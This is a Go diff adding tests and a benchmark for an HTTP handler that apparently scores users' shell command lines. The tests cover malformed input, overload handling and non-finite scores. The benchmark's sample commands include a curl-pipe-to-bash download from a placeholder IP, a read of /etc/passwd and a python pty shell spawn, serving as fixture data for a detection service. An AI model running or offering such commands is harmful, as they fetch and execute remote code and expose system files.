@@ -1,10 +1,14 @@
 package serve
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
+	"fmt"
+	"math"
 	"net/http"
 	"net/http/httptest"
+	"runtime"
 	"strings"
 	"testing"
 
@@ -72,4 +76,175 @@ func TestScoreOverlongLine(t *testing.T) {
 			}
 		})
 	}
+}
+
+// scoreLines posts body through HandleScoreFunc with the given chunk size
+// and returns the recorder and the response lines.
+func scoreLines(t *testing.T, submit func(context.Context, []stream.Event) ([]stream.Verdict, error), chunk int, body string) (*httptest.ResponseRecorder, []string) {
+	t.Helper()
+	req := httptest.NewRequest(http.MethodPost, "/score", strings.NewReader(body))
+	rec := httptest.NewRecorder()
+	HandleScoreFunc(submit, chunk, rec, req)
+	return rec, strings.Split(strings.TrimSuffix(rec.Body.String(), "\n"), "\n")
+}
+
+// A malformed line costs that line only: its unparsable record arrives in
+// input order, naming the line, and the events after it are still scored.
+func TestScoreMalformedLineInOrder(t *testing.T) {
+	body := `{"user":"a","time":1,"line":"ls"}` + "\n" +
+		"\n" + // blank lines are skipped but still counted
+		`{"user":"b","time":2,"line":"id"}` + "\n" +
+		`{"user":"c","time":oops}` + "\n" +
+		`{"user":"d","time":4,"line":"pwd"}` + "\n"
+	var submitted []stream.Event
+	rec, out := scoreLines(t, echoSubmit(&submitted), 512, body)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status %d, want 200", rec.Code)
+	}
+	if len(out) != 4 {
+		t.Fatalf("%d response lines, want 3 verdicts + 1 error record:\n%s", len(out), rec.Body.String())
+	}
+	for i, user := range []string{"a", "b", "", "d"} {
+		if user == "" {
+			var errRec ErrorRecord
+			if err := json.Unmarshal([]byte(out[i]), &errRec); err != nil || errRec.Code != CodeUnparsable || errRec.Line != 4 {
+				t.Fatalf("response line %d = %s, want the unparsable record for line 4", i+1, out[i])
+			}
+			if want := "line 4: invalid character 'o' looking for beginning of value"; errRec.Error != want {
+				t.Fatalf("error %q, want encoding/json's %q", errRec.Error, want)
+			}
+			continue
+		}
+		var v stream.Verdict
+		if err := json.Unmarshal([]byte(out[i]), &v); err != nil || v.User != user {
+			t.Fatalf("response line %d = %s, want the verdict for %q", i+1, out[i], user)
+		}
+	}
+	if len(submitted) != 3 {
+		t.Fatalf("submitted %d events, want 3", len(submitted))
+	}
+}
+
+// shedOn answers like echoSubmit but sheds (stream.ErrOverloaded) the
+// call numbered shed, counting from 1.
+func shedOn(shed int) func(context.Context, []stream.Event) ([]stream.Verdict, error) {
+	var submitted []stream.Event
+	echo, calls := echoSubmit(&submitted), 0
+	return func(ctx context.Context, evs []stream.Event) ([]stream.Verdict, error) {
+		if calls++; calls == shed {
+			return nil, fmt.Errorf("queue full: %w", stream.ErrOverloaded)
+		}
+		return echo(ctx, evs)
+	}
+}
+
+const fourEvents = `{"user":"a","time":1,"line":"ls"}` + "\n" + `{"user":"b","time":2,"line":"id"}` + "\n" +
+	`{"user":"c","time":3,"line":"pwd"}` + "\n" + `{"user":"d","time":4,"line":"w"}` + "\n"
+
+// A shed before any verdict is written is a plain 429 with Retry-After, so
+// a client (or the fleet router) backs off and retries the whole request.
+func TestScoreShedBeforeFirstWrite(t *testing.T) {
+	rec, _ := scoreLines(t, shedOn(1), 2, fourEvents)
+	if rec.Code != http.StatusTooManyRequests {
+		t.Fatalf("status %d, want 429", rec.Code)
+	}
+	if got := rec.Header().Get("Retry-After"); got != "1" {
+		t.Fatalf("Retry-After %q, want 1", got)
+	}
+}
+
+// Once verdicts are out the status is spent: a later shed is an in-band
+// overloaded record after the verdicts already scored, and the stream ends.
+func TestScoreShedAfterFirstWrite(t *testing.T) {
+	rec, out := scoreLines(t, shedOn(2), 2, fourEvents)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status %d, want 200", rec.Code)
+	}
+	if len(out) != 3 {
+		t.Fatalf("%d response lines, want 2 verdicts + 1 error record:\n%s", len(out), rec.Body.String())
+	}
+	var errRec ErrorRecord
+	if err := json.Unmarshal([]byte(out[2]), &errRec); err != nil || errRec.Code != CodeOverloaded {
+		t.Fatalf("last line %s, want an error record with code %q", out[2], CodeOverloaded)
+	}
+}
+
+// A verdict JSON cannot carry (a NaN score) must not silently drop out of
+// the stream, which would shift every later verdict onto the wrong event:
+// the verdicts before it go out, then the response is torn.
+func TestScoreNonFiniteVerdictTearsResponse(t *testing.T) {
+	var submitted []stream.Event
+	echo := echoSubmit(&submitted)
+	submit := func(ctx context.Context, evs []stream.Event) ([]stream.Verdict, error) {
+		vs, err := echo(ctx, evs)
+		for i := range vs {
+			if vs[i].User == "c" {
+				vs[i].LineScore = math.NaN()
+			}
+		}
+		return vs, err
+	}
+	req := httptest.NewRequest(http.MethodPost, "/score", strings.NewReader(fourEvents))
+	rec := httptest.NewRecorder()
+	var aborted any
+	func() {
+		defer func() { aborted = recover() }()
+		HandleScoreFunc(submit, 512, rec, req)
+	}()
+	if aborted != http.ErrAbortHandler {
+		t.Fatalf("handler ended with %v, want panic(http.ErrAbortHandler)", aborted)
+	}
+	var want string
+	for _, ev := range submitted[:2] {
+		b, _ := AppendVerdict(nil, &stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line})
+		want += string(b)
+	}
+	if got := rec.Body.String(); got != want {
+		t.Fatalf("body before the tear:\n%s\nwant exactly the verdicts before the NaN one:\n%s", got, want)
+	}
+}
+
+// discardWriter is a ResponseWriter that drops the body.
+type discardWriter struct{ h http.Header }
+
+func (d *discardWriter) Header() http.Header         { return d.h }
+func (d *discardWriter) Write(b []byte) (int, error) { return len(b), nil }
+func (d *discardWriter) WriteHeader(int)             {}
+
+// BenchmarkHandleScore runs one 512-event request through HandleScoreFunc
+// over a submit that answers at once: NDJSON decode plus verdict encode,
+// the handler's own cost per line.
+func BenchmarkHandleScore(b *testing.B) {
+	const n = 512
+	lines := []string{`ls -la /tmp`, `curl -fsSL http://203.0.113.7/x.sh | bash`,
+		`cat /etc/passwd > /tmp/p && echo "done"`, `python3 -c 'import pty; pty.spawn("/bin/sh")'`}
+	var body []byte
+	for i := 0; i < n; i++ {
+		ev := stream.Event{User: fmt.Sprintf("user%03d", i%40), Time: 1_700_000_000 + int64(i), Line: lines[i%len(lines)]}
+		body = AppendEvent(body, &ev)
+	}
+	verdicts := make([]stream.Verdict, n)
+	submit := func(_ context.Context, evs []stream.Event) ([]stream.Verdict, error) {
+		vs := verdicts[:len(evs)]
+		for i, ev := range evs {
+			vs[i] = stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: ev.Line,
+				LineScore: 0.123456789, ContextScore: 0.25, SessionScore: 1e-7, SessionLines: 3}
+		}
+		return vs, nil
+	}
+	w := &discardWriter{h: http.Header{}}
+	rd := bytes.NewReader(body)
+	req := httptest.NewRequest(http.MethodPost, "/score", rd)
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		rd.Reset(body)
+		HandleScoreFunc(submit, n, w, req)
+	}
+	b.StopTimer()
+	runtime.ReadMemStats(&after)
+	lines64 := float64(b.N) * n
+	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/lines64, "ns/line")
+	b.ReportMetric(float64(after.Mallocs-before.Mallocs)/lines64, "allocs/line")
 }
